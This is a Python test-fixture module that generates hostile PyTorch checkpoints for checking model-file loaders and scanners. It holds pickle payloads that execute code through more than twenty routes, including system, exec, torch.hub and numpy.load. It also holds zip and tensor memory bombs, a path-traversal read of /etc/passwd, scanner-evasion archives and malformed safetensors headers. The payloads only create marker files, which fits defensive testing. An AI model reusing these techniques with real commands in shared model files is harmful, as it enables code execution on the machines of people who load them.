"""Model files that attack whoever reads them. Each leaves a mark behind when it works."""

from __future__ import annotations

import copyreg
import io
import json
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


def archive(pickled: bytes, *, folder: str = "model", **records: bytes) -> bytes:
    """A torch checkpoint around a pickle; `records` are the memories of tensors."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as one:
        one.writestr(f"{folder}/data.pkl", pickled)
        one.writestr(f"{folder}/version", "3\n")
        for key, content in records.items():
            one.writestr(f"{folder}/data/{key.removeprefix('_')}", content)
    return file.getvalue()


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def call(name: str, *arguments: bytes) -> bytes:
    """The instructions that call a dotted name."""
    home, _, attribute = name.rpartition(".")
    return f"c{home}\n{attribute}\n".encode() + b"(" + b"".join(arguments) + b"tR"


class _Chain:
    """Pickles as a call of `function` with `arguments`."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.recipe = (function, arguments)

    def __reduce__(self) -> Any:
        return self.recipe

    def __call__(self) -> None:
        """Look callable: what it gives may be called by the file."""


class ActsWhenMade:
    """Writes its mark as soon as it is made."""

    def __new__(cls, mark: str = "") -> ActsWhenMade:
        if mark:
            Path(mark).touch()
        return super().__new__(cls)


class ActsWhenFilled:
    """Writes its mark when it is given a state."""

    def __setstate__(self, mark: str) -> None:
        Path(mark).touch()


_HERE = ActsWhenMade.__module__
_EXTENSION = 0xDC


def _touch(mark: Path) -> str:
    return f"touch '{mark}'"


def _wrapped(instructions: bytes) -> bytes:
    return b"\x80\x02" + instructions + b"."


def _by_instance(mark: Path) -> bytes:
    return b"(S'" + str(mark).encode() + b"'\niposix\nmkdir\n."


def _by_object(mark: Path) -> bytes:
    return b"(cposix\nmkdir\nS'" + str(mark).encode() + b"'\no."


def _by_extension(mark: Path) -> bytes:
    copyreg.add_extension("posix", "mkdir", _EXTENSION)
    return _wrapped(b"\x82" + bytes([_EXTENSION]) + b"(" + text(str(mark)) + b"tR")


def _by_stack_global(mark: Path) -> bytes:
    return b"\x80\x04\x8c\x05posix\x8c\x05mkdir\x93(" + text(str(mark)) + b"tR."


def _by_new(mark: Path) -> bytes:
    return _wrapped(f"c{_HERE}\nActsWhenMade\n".encode() + b"(" + text(str(mark)) + b"t\x81")


def _by_new_with_keywords(mark: Path) -> bytes:
    return b"\x80\x04" + f"c{_HERE}\nActsWhenMade\n".encode() + b"(" + text(str(mark)) + b"t}\x92."


def _by_state(mark: Path) -> bytes:
    return _wrapped(f"c{_HERE}\nActsWhenFilled\n".encode() + b")\x81" + text(str(mark)) + b"b")


def _by_getattr(mark: Path) -> bytes:
    names = _Chain(getattr, _Chain(getattr, torch.nn.ReLU, "__init__"), "__globals__")
    builtins = _Chain(_Chain(getattr, names, "get"), "__builtins__")
    execute = _Chain(_Chain(getattr, builtins, "get"), "exec")
    return pickle.dumps(_Chain(execute, f"open({str(mark)!r}, 'w').close()"), 2)


def _by_environment(mark: Path) -> bytes:
    """Sets a variable of the process instead of writing a file."""
    return _wrapped(
        call("posix.putenv", text("DETCAM_ATTACK"), text("ran")) + b"0" + call("posix.mkdir", text(str(mark)))
    )


def _hub(mark: Path) -> bytes:
    """torch.hub runs the hubconf.py of a folder."""
    folder = mark.parent / "hub"
    folder.mkdir(exist_ok=True)
    (folder / "hubconf.py").write_text(f"def go():\n    open({str(mark)!r}, 'w').close()\n")
    return _wrapped(call("torch.hub._load_local", text(str(folder)), text("go")))


def _nested_pickle(mark: Path) -> bytes:
    inner = io.BytesIO()
    torch.save(_Chain(os.mkdir, str(mark)), inner)
    return pickle.dumps(_Chain(torch.storage._load_from_bytes, inner.getvalue()), 2)


def _array_of_objects(mark: Path) -> bytes:
    """numpy.load of a second file, whose objects are pickled."""
    import numpy

    array = numpy.empty(1, object)
    array[0] = _Chain(os.mkdir, str(mark))
    numpy.save(mark.parent / "second.npy", array, allow_pickle=True)
    return _wrapped(call("numpy.load", text(str(mark.parent / "second.npy")), b"N", b"\x88"))


def _calls(name: str, *arguments: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    return lambda mark: _wrapped(call(name, *(one(mark) for one in arguments)))


def _code(mark: Path) -> bytes:
    return text(f"open({str(mark)!r}, 'w').close()")


def _command(mark: Path) -> bytes:
    return text(_touch(mark))


def _nothing(_mark: Path) -> bytes:
    return b"}"


RUNNING: dict[str, Callable[[Path], bytes]] = {
    "REDUCE of GLOBAL": _calls("posix.system", _command),
    "STACK_GLOBAL": _by_stack_global,
    "INST": _by_instance,
    "OBJ": _by_object,
    "NEWOBJ": _by_new,
    "NEWOBJ_EX": _by_new_with_keywords,
    "EXT1": _by_extension,
    "BUILD": _by_state,
    "getattr": _by_getattr,
    "environment": _by_environment,
    "exec": _calls("builtins.exec", _code),
    "eval": _calls("builtins.eval", _code),
    "timeit": _calls("timeit.timeit", lambda _: text("pass"), _code),
    "cProfile": _calls("cProfile.run", _code),
    "runpy": _calls("runpy._run_code", _code, _nothing),
    "subprocess": _calls("subprocess.getoutput", _command),
    "torch.hub": _hub,
    "torch.utils.collect_env": _calls("torch.utils.collect_env.run", _command),
    "torch.jit": _calls("torch.jit.unsupported_tensor_ops.execWrapper", _code, _nothing, _nothing),
    "torch.fx": _calls("torch.fx.graph_module._exec_with_source", _code, _nothing),
    "torch.storage": _nested_pickle,
    "numpy.load": _array_of_objects,
}
"""Name -> the pickle that makes the mark when it is loaded without care."""


# --- bombs: no code, but more memory or time than there is -----------------------------------------------

_BIG = 10**12


def _long(value: int) -> bytes:
    encoded = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(encoded)]) + encoded


def _storage(key: str, count: int, kind: str = "FloatStorage") -> bytes:
    said = (text("storage"), f"ctorch\n{kind}\n".encode(), text(key), text("cpu"), _long(count))
    return b"(" + b"".join(said) + b"tQ"


def _tensor(storage: bytes, size: int, stride: int) -> bytes:
    hooks = call("collections.OrderedDict")
    shape = (b"(" + _long(size) + b"t", b"(" + _long(stride) + b"t")
    return call("torch._utils._rebuild_tensor_v2", storage, b"K\x00", *shape, b"\x89", hooks)


def _state_dict(value: bytes) -> bytes:
    return _wrapped(b"}" + text("weight") + value + b"s")


def _repeated() -> bytes:
    return _tensor(_storage("0", 4), 10**10, 0)


def _deep_key(depth: int = 64) -> bytes:
    """A tuple that holds the last one twice, and so on: its hash visits 2^64 values."""
    return _wrapped(b"}" + b"(K\x01t" + b"".join(b"q\x00h\x00\x86" for _ in range(depth)) + b"K\x01s")


def _compressed(size: int) -> bytes:
    """An archive whose pickle unpacks to `size` bytes of nothing."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as one:
        with one.open("model/data.pkl", "w", force_zip64=True) as member:
            for _ in range(size >> 20):
                member.write(b"0" * (1 << 20))
        one.writestr("model/version", "3\n")
    return file.getvalue()


def _overlapping() -> bytes:
    """A directory that lists the same megabyte two thousand times."""
    data, count = b"0" * (1 << 20), 2000
    name = b"model/data.pkl"
    local = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 33, zlib.crc32(data), len(data), len(data), len(name), 0
    )
    body, directory = local + name + data, b""
    for number in range(count):
        each = name if number == 0 else f"model/data/{number}".encode()
        directory += struct.pack(
            "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 33, zlib.crc32(data), len(data), len(data),
            len(each), 0, 0, 0, 0, 0, 0,
        ) + each  # fmt: skip
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + end


def _two_pickles() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as one:
        one.writestr("model/data.pkl", _wrapped(b"}"))
        one.writestr("MODEL/DATA.PKL", _wrapped(call("posix.system", text("true"))))
    return file.getvalue()


def _second_directory() -> bytes:
    """A directory for one reader, and behind it, in the comment, one for another."""
    whole = archive(_wrapped(b"}"))
    comment = archive(_wrapped(call("posix.system", text("true"))))
    return whole[:-2] + struct.pack("<H", len(comment)) + comment


BOMBS: dict[str, Callable[[], bytes]] = {
    "compressed pickle": lambda: _compressed(256 << 20),
    "overlapping members": _overlapping,
    "two pickles": _two_pickles,
    "two directories": _second_directory,
    "bytearray": lambda: archive(_state_dict(call("builtins.bytearray", _long(_BIG)))),
    "new tensor": lambda: archive(_state_dict(call("torch.Tensor", _long(_BIG)))),
    "new float tensor": lambda: archive(_state_dict(call("torch.FloatTensor", _long(_BIG)))),
    "set of a repeated number": lambda: archive(_state_dict(call("builtins.set", _repeated())), _0=bytes(16)),
    "counter of a repeated number": lambda: archive(
        _state_dict(call("collections.Counter", _repeated())), _0=bytes(16)
    ),
    "repeated number made dense": lambda: archive(
        _state_dict(
            call(
                "torch._utils._rebuild_device_tensor_from_cpu_tensor",
                _repeated(),
                b"ctorch\nfloat64\n",
                text("cpu"),
                b"\x89",
            )
        ),
        _0=bytes(16),
    ),
    "repeated number": lambda: archive(_state_dict(_repeated()), _0=bytes(16)),
    "huge tensor": lambda: archive(_state_dict(_tensor(_storage("0", _BIG), _BIG, 1)), _0=bytes(16)),
    "more than its memory": lambda: archive(_state_dict(_tensor(_storage("0", 64), 64, 1)), _0=bytes(16)),
    "less than nothing": lambda: archive(_state_dict(_tensor(_storage("0", -4), 4, 1)), _0=bytes(16)),
    "memory of no tensor": lambda: archive(_state_dict(text("module") + b"Q")),
    "memory outside": lambda: archive(_state_dict(_tensor(_storage("../../../etc/passwd", 4), 4, 1))),
    "deep key": lambda: archive(_deep_key()),
    "deep list": lambda: archive(_wrapped(b"}" + text("model") + b"]" * 100_000 + b"a" * 99_999 + b"s")),
    "item of a tensor": lambda: archive(
        _wrapped(_tensor(_storage("0", 4), 4, 1) + b"K\x00" + b"K\x01" + b"s"), _0=bytes(16)
    ),
}
"""Name -> a file that would take all memory, or all time, or read what is not its own."""


# --- safetensors whose header lies -----------------------------------------------------------------------


def safetensors(header: Any, body: bytes = bytes(16), length: int | None = None) -> bytes:
    """A file with that header, whose length may be said wrong."""
    said = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(said) if length is None else length) + said + body


def _weight(**changes: Any) -> dict[str, Any]:
    return {"weight": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16], **changes}}


LIES: dict[str, bytes] = {
    "length of exabytes": safetensors(_weight(), length=2**63),
    "length of 90 MB": safetensors(_weight(), length=90_000_000),
    "length of nothing": safetensors(_weight(), length=0),
    "length in the middle": safetensors(_weight(), length=20),
    "offsets outside": safetensors(_weight(data_offsets=[0, 2**40], shape=[2**38])),
    "offsets backwards": safetensors(_weight(data_offsets=[16, 0])),
    "offsets below nothing": safetensors(_weight(data_offsets=[-16, 0])),
    "offsets that are no numbers": safetensors(_weight(data_offsets=["0", "16"])),
    "overlap": safetensors(_weight() | {"bias": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}),
    "hole": safetensors(_weight(data_offsets=[4, 16], shape=[3])),
    "bytes behind": safetensors(_weight(), bytes(32)),
    "shape of terabytes": safetensors(_weight(shape=[2**40, 2**20])),
    "shape that overflows": safetensors(_weight(shape=[2**32, 2**32])),
    "shape below nothing": safetensors(_weight(shape=[-4])),
    "shape of another size": safetensors(_weight(shape=[5])),
    "unknown type": safetensors(_weight(dtype="PICKLE")),
    "type of another size": safetensors(_weight(dtype="F64")),
    "no header": safetensors(b""),
    "a list": safetensors(b"[" * 10_000 + b"]" * 10_000),
    "nested metadata": safetensors({"__metadata__": {"a": {"b": "c"}}} | _weight()),
    "not UTF-8": safetensors(b'{"\xff": 1}'),
}
"""Name -> a .safetensors file that is none."""
